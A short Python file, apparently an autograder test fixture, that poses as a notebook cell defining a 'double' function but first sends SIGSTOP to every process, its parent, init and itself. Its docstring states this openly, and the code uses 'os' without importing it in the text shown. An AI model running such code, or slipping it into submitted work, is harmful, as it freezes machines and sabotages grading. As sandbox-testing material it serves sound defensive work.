"""Stops every process in sight and itself in a cell: stopped processes neither answer nor end by themselves."""

# points: double=0..4, rest=0..15
# %% double
import signal

for pid in (-1, os.getppid(), 1, os.getpid()):
    try:
        os.kill(pid, signal.SIGSTOP)
    except OSError:
        pass


def double(x):
    return 2 * x
